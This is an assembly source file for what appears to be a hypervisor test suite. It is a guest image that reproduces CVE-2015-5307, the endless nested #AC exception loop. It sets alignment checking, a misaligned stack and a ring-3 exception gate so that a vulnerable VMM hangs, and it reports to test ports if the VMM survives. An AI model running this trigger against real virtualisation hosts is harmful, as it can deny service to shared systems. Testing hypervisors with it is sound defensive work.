/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * L1 guest "ac-loop": the nested #AC of CVE-2015-5307, 32-bit protected mode, CPL 3.
 *
 * The gate of vector 17 leads to a ring-3 code segment, so the delivery of #AC does not change the
 * stack; with a misaligned ESP and alignment checks on, the first push of the delivery raises #AC
 * again, without end and without an instruction boundary. The handler is reached only when the VMM
 * has aligned ESP; it reports the error code and the saved EIP.
 */
#include "l1.h"

#define EFLAGS_AC	0x40000

	.section .rodata.l1_ac_loop, "a"
	.code32
	.balign	16
	.globl	l1_ac_loop, l1_ac_loop_end
l1_ac_loop:
image:
	l1_header L1_MODE_USER32, attack, attack

entry:
	pushfl
	orl	$EFLAGS_AC, (%esp)
	popfl
	movl	$(L1_STACK_TOP - 0x100 + 1), %esp
attack:
	movl	(%esp), %eax
	ud2

handler:
	popl	%eax
	outl	%eax, $L1_PORT_REPORT
	popl	%eax
	outl	%eax, $L1_PORT_REPORT
	outl	%eax, $L1_PORT_DONE
1:	jmp	1b

	.balign	8
idt:
	.rept	17
	gate32_absent
	.endr
	gate32	handler, L1_CS32_USER, 0xee
idt_end:
l1_ac_loop_end:

	.section .note.GNU-stack, "", @progbits
